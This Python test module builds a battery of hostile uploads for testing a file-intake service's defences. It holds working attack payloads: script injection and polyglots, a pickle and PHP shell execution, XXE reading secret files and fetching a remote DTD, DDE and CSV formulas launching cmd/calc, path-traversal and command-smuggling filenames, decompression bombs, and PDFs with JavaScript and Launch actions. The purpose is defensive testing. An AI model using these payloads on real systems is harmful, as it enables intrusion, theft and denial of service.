"""Hostile files, made in code: each says by hand who must refuse it, and what of it may be found nowhere.

`papers`, `pictures` and `tables` are the three kinds of doors. False: must be refused. True: must be kept. None: may be
kept, then it is judged by how it is handed out. `flagged`: where it is kept as a paper, the audit's look must object.
"""

import io
import json
import random
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace

from PIL import PngImagePlugin

from tests.battery.r10_making import (
    LINKS,
    MAIN,
    MB,
    OFFICE,
    ROWS,
    blank_png,
    chunk,
    deflated,
    docx,
    gzipped,
    pdf,
    picture,
    png,
    row,
    xlsx,
    zipped,
)

TRAP = "tte-r10-trap"
SCRIPT = f"<script>window['{TRAP}']=1</script>"
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
LIMIT = 20_000_000


@dataclass(frozen=True)
class Hostile:
    family: str
    name: str
    content: bytes
    claims: str = "application/octet-stream"
    papers: bool | None = None
    pictures: bool | None = False
    tables: bool | None = None
    flagged: bool = False

    def __str__(self) -> str:
        return f"{self.family} {self.name[:40]!r}"


@dataclass(frozen=True)
class Traps:
    """What must not be touched: a file to be read, an address to be asked, a place to be written."""

    secret: str
    address: str
    outside: str


# --- the families -----------------------------------------------------------------------------------------------------


def markup(traps: Traps) -> Iterator[Hostile]:
    """What a browser would run, under every name and claim."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="window[\'{TRAP}\']=1">{SCRIPT}</svg>'
    texts = {
        "svg": svg,
        "svg after xml": f'<?xml version="1.0"?>{svg}',
        "html": f"<!DOCTYPE html><html><body>{SCRIPT}",
        "html after blanks": f"\n \t<HTML><body>{SCRIPT}",
        "html after a mark": f"\ufeff<html>{SCRIPT}",
        "script": SCRIPT,
        "xhtml": f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>',
        "svg after a comment": f"<!-- {'x' * 300} -->{svg}",
        "body": f"<body onload=\"window['{TRAP}']=1\">",
        "image": f"<img src=x onerror=\"window['{TRAP}']=1\">",
    }
    for kind, text in texts.items():
        for name, claims in (("a.png", "image/png"), ("a.pdf", "application/pdf"), ("a.csv", "text/csv")):
            yield Hostile(f"markup: {kind}", name, text.encode(), claims, papers=False)
    wide = texts["html"].encode("utf-16")
    yield Hostile("markup: html in UTF-16", "a.txt", wide, "text/html", papers=False)
    yield Hostile("markup: text with a script within", "a.txt", f"A note. {SCRIPT}".encode(), "text/html")


def programs(traps: Traps) -> Iterator[Hostile]:
    run = f"touch {traps.outside}"
    jar = {"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe"}
    for kind, name, content, papers in (
        ("exe", "a.pdf", b"MZ\x90\0\3\0\0\0" + bytes(500), False),
        ("elf", "a.docx", b"\x7fELF\2\1\1" + bytes(500), False),
        ("jar", "a.docx", zipped(jar), False),
        ("jar", "a.xlsx", zipped(jar), False),
        ("class", "a.png", b"\xca\xfe\xba\xbe\0\0\0\x34", False),
        ("pickle", "a.csv", b"\x80\x04cposix\nsystem\n(V" + run.encode() + b"\ntR.", False),
        ("shell", "a.txt", f"#!/bin/sh\n{run}\n".encode(), None),
        ("php", "a.php", f"<?php system('{run}'); ?>".encode(), None),
        ("python", "__init__.py", f"import os; os.system('{run}')".encode(), None),
        ("template", "a.txt", b"{% load x %}{{ settings.SECRET_KEY }}${7*7}", None),
        ("eicar", "eicar.com", EICAR.encode(), None),
        ("eicar", "eicar.txt", EICAR.encode(), None),
        ("old office", "a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), False),
        ("postscript", "a.png", f"%!PS\n(%pipe%{run}) (w) file\n".encode(), None),
        ("mvg", "a.png", f"push graphic-context\nimage over 0,0 0,0 'https://x/\"|{run}\"'".encode(), None),
    ):
        yield Hostile(f"program: {kind}", name, content, papers=papers, tables=False if papers is False else None)


def polyglots(traps: Traps) -> Iterator[Hostile]:
    html = f"<html>{SCRIPT}</html>".encode()
    archive = zipped({"a.html": html})
    comment = PngImagePlugin.PngInfo()
    comment.add_text("Comment", html.decode(), zip=False)
    for kind, name, content, papers, pictures in (
        ("gif and script", "a.gif", b"GIF89a/*" + bytes(8) + f"*/=1;window['{TRAP}']=1".encode(), False, False),
        ("html before pdf", "a.pdf", html + pdf(), False, False),
        ("pdf with html", "a.pdf", b"%PDF-1.4\n" + html, None, False),
        ("pdf with zip", "a.pdf", pdf() + archive, None, False),
        ("jpeg with html", "a.html", picture("JPEG", comment=html), None, None),
        ("jpeg then html", "a.jpg.html", picture("JPEG") + html, None, None),
        ("jpeg then zip", "a.jar", picture("JPEG") + archive, None, None),
        ("png with html", "a.svg", picture("PNG", pnginfo=comment), None, None),
        ("png then html", "a.htm", picture("PNG") + html, None, None),
        ("png with exif", "a.png", picture("PNG", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0" + html), None, None),
        ("webp then html", "a.xhtml", picture("WEBP") + html, None, None),
        ("png head, html", "a.png", b"\x89PNG\r\n\x1a\n" + html, None, False),
        ("jpeg head, html", "a.jpg", b"\xff\xd8\xff" + html, None, False),
        ("webp head, html", "a.webp", b"RIFF\xff\0\0\0WEBP" + html, None, False),
        ("bmp as png", "a.png", picture("BMP"), False, False),
        ("gif as png", "a.png", picture("GIF"), False, False),
        ("tiff as jpg", "a.jpg", picture("TIFF"), False, False),
        ("script before docx", "a.docx", b"#!/bin/sh\n" + zipped(docx()), False, False),
        ("docx with html", "a.docx", zipped(docx(**{"index.html": html})), None, False),
    ):
        yield Hostile(f"polyglot: {kind}", name, content, "text/html", papers, pictures)


def bombs(traps: Traps) -> Iterator[Hostile]:
    spaces, zeros, big = [(b" " * MB, 300)], [(b"\0" * MB, 300)], [(b"<c/>" * 65536, 1100)]
    sheet = [(f'<worksheet xmlns="{MAIN}"><sheetData>'.encode(), 1)]
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    entities = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>'
    filler, shared = [(b"<!-- -->" * 8192, 4000)], [(b"<si><t>a</t></si>" * 10000, 700)]
    many = {f"word/{n}.xml": b"" for n in range(6000)}
    tiny = gzipped([(gzipped([(b"a,b\n" * 250_000, 250)]), 1)])
    for kind, name, content, given in (
        ("sheet of blanks", "a.xlsx", zipped(xlsx(ROWS) | {"xl/worksheets/sheet1.xml": sheet + spaces}), "tf"),
        ("sheet of cells", "a.xlsx", zipped(xlsx(ROWS) | {"xl/worksheets/sheet1.xml": sheet + big}), "tf"),
        ("sheet of comments", "a.xlsx", zipped(xlsx(ROWS) | {"xl/worksheets/sheet1.xml": sheet + filler}), "tf"),
        ("sheet that lies", "a.xlsx", zipped(xlsx(ROWS) | {"xl/worksheets/sheet1.xml": sheet + spaces}, 900), "tf"),
        ("shared texts", "a.xlsx", zipped(xlsx(ROWS, shared=[(b"<sst>", 1), *shared])), "t"),
        ("laughs", "a.xlsx", zipped(xlsx("", shared=f"{entities}<sst><si><t>&l9;</t></si></sst>".encode())), "t"),
        ("laughs", "b.xlsx", zipped(xlsx(row(1, "&l9;") + ROWS, before=entities)), "t"),
        ("laughs", "a.docx", zipped(docx(f"{entities}<a>&l9;</a>")), ""),
        ("far cell", "a.xlsx", zipped(xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')), "t"),
        ("zeros", "a.docx", zipped(docx() | {"word/media/a.bin": zeros}), "f"),
        ("zeros that lie", "a.docx", zipped(docx() | {"word/media/a.bin": zeros}, 900), "f"),
        ("6,000 parts", "a.docx", zipped(docx() | many), "pt"),
        ("gzip", "a.csv.gz", gzipped([(b"a,b,c\n" * 174_000, 300)]), "pt"),
        ("gzip of one line", "a.csv.gz", gzipped([(b"a" * MB, 300)]), "pt"),
        ("gzip in gzip", "a.csv.gz.gz", tiny, "p"),
        ("objects without end", "a.jsonl.gz", gzipped([(b'{"a":' * 100_000, 300)]), "pt"),
        ("deep object", "a.jsonl", b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "t"),
        ("deep list", "a.jsonl", b'{"a":' + b"[" * 900_000 + b"]" * 900_000 + b"}", "t"),
        ("long number", "a.jsonl", b'{"list":' + b"9" * 2 * MB + b"}", ""),
        ("many columns", "a.csv", b"a," * 2_000_000 + b"\n1", "t"),
        ("open quote", "a.csv", b'a,b\n"' + b"x\n" * 5_000_000, ""),
        ("text of 19 MB", "a.txt", (b"A line of text, as long as any.\n" * 600_000)[: 19 * MB], ""),
    ):
        refuses = {"papers": False if "p" in given else None, "tables": False if "t" in given else None}
        yield Hostile(f"bomb: {kind}", name, content, flagged="f" in given, **refuses)
    yield from pdf_bombs()


def pdf_bombs() -> Iterator[Hostile]:
    """Trees that grow, lead in circles, or hide in packed streams."""
    levels = [f"<< /Type /Pages /Parent 2 0 R /Kids [{f'{n + 1} 0 R ' * 10}] /Count 10 >>" for n in range(4, 13)]
    tree = pdf(*levels, "<< /Type /Page >>", pages="<< /Type /Pages /Kids [4 0 R] /Count 1 >>")
    yield Hostile("bomb: pdf tree", "tree.pdf", tree, flagged=True)
    circle = pdf(pages="<< /Type /Pages /Kids [2 0 R] /Count 1 >>")
    yield Hostile("bomb: pdf circle", "circle.pdf", circle)
    deep = [f"<< /Type /Pages /Kids [{n + 1} 0 R] /Count 1 >>" for n in range(4, 3000)]
    yield Hostile("bomb: deep pdf", "deep.pdf", pdf(*deep, pages="<< /Type /Pages /Kids [4 0 R] /Count 1 >>"))
    nested = pdf("[" * 200_000 + "]" * 200_000, root="<< /Type /Catalog /Pages 2 0 R /Names 4 0 R >>")
    yield Hostile("bomb: nested pdf", "nested.pdf", nested)
    packed, _checksum, size = deflated([(b" " * MB, 400)])
    whole = b"\x78\xda" + packed + b"\0\0\0\0"
    stream = f"<< /Type /ObjStm /N 1 /First 10 /Filter /FlateDecode /Length {len(whole)} >>\nstream\n"
    body = stream + whole.decode("latin-1") + "\nendstream"
    root = "<< /Type /Catalog /Pages 2 0 R /Names 4 0 R /Size " + str(size) + " >>"
    yield Hostile("bomb: packed pdf", "packed.pdf", pdf(body, root=root))
    loop = pdf("5 0 R", "4 0 R", root="<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    yield Hostile("bomb: pdf loop", "loop.pdf", loop)


def pictures(traps: Traps) -> Iterator[Hostile]:
    text = zlib.compress(b"a" * 100 * MB)
    known = picture("JPEG")
    place = known.index(b"\xff\xc0") + 5
    for kind, name, content, flagged in (
        ("60,000 square, empty", "a.png", png(60_000, 60_000), True),
        ("huge side", "a.png", png(2**31 - 1, 2**31 - 1), True),
        ("12,000 square, all there", "a.png", blank_png(12_000, 12_000), True),
        ("no side", "a.png", png(0, 0), True),
        ("packed words", "a.png", png(8, 8, more=chunk(b"zTXt", b"k\0\0" + text)), True),
        ("packed profile", "a.png", png(8, 8, more=chunk(b"iCCP", b"k\0\0" + text)), True),
        ("65,500 square", "a.jpg", known[:place] + b"\xff\xdc\xff\xdc" + known[place + 4 :], True),
        ("cut", "a.jpg", known[: len(known) // 3], True),
        ("cut", "a.png", picture("PNG")[:120], True),
        ("cut", "a.webp", picture("WEBP")[:60], True),
    ):
        yield Hostile(f"image: {kind}", name, content, "image/png", pictures=False, tables=False, flagged=flagged)
    yield Hostile("image: 7,000 square", "a.png", blank_png(7_000, 7_000), "image/png", pictures=None, tables=False)


def tied(relations: bytes) -> dict:
    """A document with these words about what it is tied to."""
    return docx(**{"word/_rels/settings.xml.rels": relations})


def office(traps: Traps) -> Iterator[Hostile]:
    """Macros, entities from outside, parts that would be unpacked elsewhere, templates fetched from afar."""
    macro, outside = b"Attribute VB_Name", traps.outside.lstrip("/")
    entity = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file://{traps.secret}"><!ENTITY % y SYSTEM '
    entity += f'"{traps.address}dtd"> %y;]>'
    away = f'<Relationships xmlns="{LINKS}"><Relationship Id="r" TargetMode="External" Target="{traps.address}t" '
    away += f'Type="{OFFICE}/attachedTemplate"/></Relationships>'
    wide, one = away.encode("utf-16"), away.replace('"', "'")
    named = away.replace("<", "<p:").replace("<p:/", "</p:").replace("xmlns=", "xmlns:p=")
    slips = (f"../../../../../../../..{traps.outside}", traps.outside, f"..\\..\\{outside}", f"C:\\{outside}")
    for kind, parts, given in (
        ("macro", docx(**{"word/vbaProject.bin": macro}), "pt"),
        ("macro", docx(**{"WORD/VBAPROJECT.BIN": macro}), "pt"),
        ("macro", xlsx(ROWS, **{"xl/vbaProject.bin": macro}), "pt"),
        ("macro sheet", xlsx(ROWS, **{"xl/macrosheets/sheet1.xml": b"<a/>"}), "pt"),
        ("control", docx(**{"word/activeX/activeX1.bin": macro}), "pt"),
        ("program within", docx(**{"word/embeddings/oleObject1.bin": b"MZ\x90"}), "f"),
        ("template from afar", tied(away.encode()), "f"),
        *(("afar: in other words", tied(each), "f") for each in (wide, one.encode(), named.encode())),
        ("afar: behind an entity", tied(f"{entity}{away.replace('External', '&x;')}".encode()), "f"),
        ("afar: without end", tied(b"<Relationship " * 200_000), "f"),
        ("afar: more than a book", tied(b"<a>" + b" " * 2 * MB + b"</a>"), "f"),
        ("entity", docx(f"{entity}<a>&x;</a>"), ""),
        ("entity", xlsx(row(1, "list", "code", "&x;") + ROWS, before=entity), "t"),
        ("entity", xlsx(ROWS, shared=f"{entity}<sst><si><t>&x;</t></si></sst>".encode()), "t"),
        ("entity", xlsx(ROWS, **{"xl/styles.xml": f"{entity}<a>&x;</a>".encode()}), "t"),
        *(("slip", docx(**{name: b"x"}), "") for name in slips),
        *(("slip", xlsx(ROWS, **{name: b"x"}), "") for name in slips),
        ("fields that run", docx('<w:instrText>DDEAUTO c:\\\\cmd.exe "/c calc"</w:instrText>'), ""),
    ):
        refuses = {"papers": False if "p" in given else None, "tables": False if "t" in given else None}
        end = "docx" if "word/document.xml" in parts else "xlsx"
        for name in (f"a.{end}", "a.pdf"):
            yield Hostile(f"office: {kind}", name, zipped(parts), flagged="f" in given, **refuses)


def actions(traps: Traps) -> Iterator[Hostile]:
    """PDF that does something when it is opened."""
    for kind, act in (
        ("script", f"<< /S /JavaScript /JS (app.alert\\('{TRAP}'\\)) >>"),
        ("program", "<< /S /Launch /F (cmd.exe) >>"),
        ("form", f"<< /S /SubmitForm /F ({traps.address}form) >>"),
    ):
        root = f"<< /Type /Catalog /Pages 2 0 R /OpenAction {act} >>"
        yield Hostile(f"pdf: {kind}", "a.pdf", pdf(root=root), flagged=True)
        noted = f"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {act} >>"
        found = pdf(noted).replace(b"/MediaBox", b"/Annots [4 0 R] /MediaBox")
        yield Hostile(f"pdf: {kind} behind a link", "b.pdf", found, flagged=True)
    act = f"<< /S /JavaScript /JS (app.alert\\('{TRAP}'\\)) >>"
    later = f"<< /S /GoTo /D [3 0 R /Fit] /Next [{act}] >>"
    for kind, page, root in (
        ("on turning a page", f"/AA << /O {act} >>", ""),
        ("after another act", "", f"/OpenAction {later}"),
        ("after another act, on a page", f"/AA << /C {later} >>", ""),
        ("file pinned on", "/Annots [<< /Type /Annot /Subtype /FileAttachment /FS << /F (a.exe) >> >>]", ""),
        ("in a field", "", f"/AcroForm << /Fields [<< /FT /Tx /Kids [<< /AA << /K {act} >> >>] >>] >>"),
        ("in the contents", "", f"/Outlines << /First << /Title (a) /A {act} >> >>"),
    ):
        made = pdf(root=f"<< /Type /Catalog /Pages 2 0 R {root} >>").replace(b"/MediaBox", f"{page} /MediaBox".encode())
        yield Hostile(f"pdf: late {kind}", "d.pdf", made, flagged=True)
    names = "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>"
    yield Hostile("pdf: file within", "c.pdf", pdf("<< /Type /Filespec /F (a.exe) >>", root=names), flagged=True)


NAMES = [
    *("../../../etc/passwd.pdf", "..\\..\\boot.ini", "/etc/cron.d/a", "C:\\a.pdf", "....//....//a.pdf"),
    *("%2e%2e%2fa.pdf", "a\x00.pdf", "a.pdf\x00.html", "a\r\nX-Evil: 1\r\n\r\n.pdf", "a.pdf%0d%0aX-Evil: 1"),
    *("a\x1b[31m.pdf", "a\u202efdp.exe", "a\u200b.pdf", "\ufeffa.pdf", ".pdf", ".htaccess", "...", " ", "CON"),
    *("aux.pdf", "NUL.txt", 'a' * 300 + ".pdf", '石' * 200 + ".pdf", "a.pdf.exe", "a.html", "a.svg", "a.pdf;.html"),
    *('a".pdf', "a'.pdf", "a;filename=b.html", "`id`.pdf", "$(id).pdf", "|id", "<img src=x onerror=alert(1)>.pdf"),
    *("a&b<c>.pdf", "{{7*7}}.pdf", "{% debug %}.pdf", "%s%n.pdf", "😀.pdf", "a\u0301.pdf", "-rf.pdf", "--help", "~"),
    *("*", "?.pdf", "a:b.pdf", "a.pdf::$DATA", "=1+1.pdf", "\ud7ff.pdf"),
]  # fmt: skip


def names(traps: Traps) -> Iterator[Hostile]:
    for name in NAMES:
        yield Hostile("name", name, pdf(), "text/html", papers=True)


def sizes(traps: Traps) -> Iterator[Hostile]:
    yield Hostile("size: nothing", "a.pdf", b"", papers=False, tables=False)
    yield Hostile("size: a byte too many", "a.pdf", b"%PDF-1.7\n".ljust(LIMIT + 1, b"\n"), papers=False, tables=False)


def tables(traps: Traps) -> Iterator[Hostile]:
    """Lines that trip up who reads them."""
    value, outside = json.dumps, xlsx(ROWS)
    links = "xl/_rels/workbook.xml.rels"
    outside[links] = outside[links].replace(b"worksheets/sheet1.xml", b"../../../../../etc/passwd")
    for kind, name, content in (
        ("nul", "a.csv", b"list,code\na,b\0c\n"),
        ("halves", "a.jsonl", b'{"list": "\\ud800", "code": "\\u0000"}\n'),
        ("numbers", "a.jsonl", b'{"list": NaN, "code": 1e400, "name_zh": -Infinity}\n'),
        ("not objects", "a.jsonl", b'{"list": 1}\n[1]\n"x"\nnull\n'),
        ("twice", "a.jsonl", b'{"list": "a", "list": "b"}\n'),
        ("deep", "a.jsonl", f'{{"list": {"[" * 500}{"]" * 500}}}\n'.encode()),
        ("prototype", "a.jsonl", (value({"__proto__": {"a": 1}, "constructor": "x"}) + "\n").encode()),
        ("utf-7", "a.csv", b"list,code\n+ADw-script+AD4-,b\n"),
        ("utf-16", "a.csv", "list,code\na,b\n".encode("utf-16")),
        ("script", "a.csv", f"list,code,name_zh\n{SCRIPT},b,{SCRIPT}\n".encode()),
        ("formula", "a.csv", b"list,code\n=cmd|' /C calc'!A0,b\n"),
        ("script", "a.xlsx", zipped(xlsx(ROWS + row(3, SCRIPT.replace("<", "&lt;"), "b")))),
        ("cut", "a.csv.gz", gzipped([(b"list,code\na,b\n", 100)])[:-20]),
        ("wrong sum", "a.csv.gz", gzipped([(b"list,code\na,b\n", 100)])[:-8] + b"\0" * 8),
        ("tail", "a.csv.gz", gzipped([(b"list,code\na,b\n", 1)]) + b"junk"),
        ("negative row", "a.xlsx", zipped(xlsx('<row r="-1"><c r="A-1"><v>1</v></c></row>'))),
        ("wild place", "a.xlsx", zipped(xlsx('<row r="x"><c r="1A"><v>1</v></c></row>'))),
        ("long place", "a.xlsx", zipped(xlsx(f'<row r="{"9" * 5000}"><c r="{"Z" * 5000}1"/></row>'))),
        ("outside the archive", "a.xlsx", zipped(outside)),
    ):
        yield Hostile(f"table: {kind}", name, content, "text/csv", papers=None)


FAMILIES: tuple[Callable[[Traps], Iterator[Hostile]], ...] = (
    *(markup, programs, polyglots, bombs, pictures, office, actions, names, sizes, tables),
)


def known(traps: Traps) -> list[Hostile]:
    return [each for family in FAMILIES for each in family(traps)]


# --- by chance --------------------------------------------------------------------------------------------------------


def sound(traps: Traps) -> list[tuple[str, bytes]]:
    """Files without fault, to be cut and bent."""
    book = io.BytesIO()
    with zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in xlsx(ROWS).items():
            archive.writestr(name, content)
    return [
        ("a.pdf", pdf()),
        ("a.docx", zipped(docx())),
        ("a.xlsx", book.getvalue()),
        *((f"a.{form.lower()}", picture(form)) for form in ("PNG", "JPEG", "WEBP")),
        ("a.csv", "list,code,name_zh\na,b,名\n".encode() * 5),
        ("a.csv.gz", gzipped([("list,code,name_zh\na,b,名\n".encode(), 5)])),
        ("a.jsonl", b'{"list": "a", "code": "b"}\n' * 5),
        ("a.xlsx.gz", gzipped([(book.getvalue(), 1)])),
    ]


def by_chance(traps: Traps, count: int, chance: random.Random) -> list[Hostile]:
    """Sound files cut off, bent at some bytes or glued together, and known ones under other names."""
    whole, before = sound(traps), [each for each in known(traps) if len(each.content) < MB]
    made = []
    while len(made) < count:
        name, content = chance.choice(whole)
        way = chance.choice(("cut", "bent", "bent", "glued", "renamed"))
        if way == "cut":
            content = content[: chance.randrange(1, len(content))]
        elif way == "bent":
            bent = bytearray(content)
            for _ in range(chance.choice((1, 2, 5, 20))):
                bent[chance.randrange(len(bent))] = chance.randrange(256)
            content = bytes(bent)
        elif way == "glued":
            content += chance.choice(whole)[1]
        else:
            made.append(replace(chance.choice(before), name=chance.choice(NAMES)))
            continue
        made.append(Hostile(f"by chance: {way}", name, content, pictures=None))
    return made
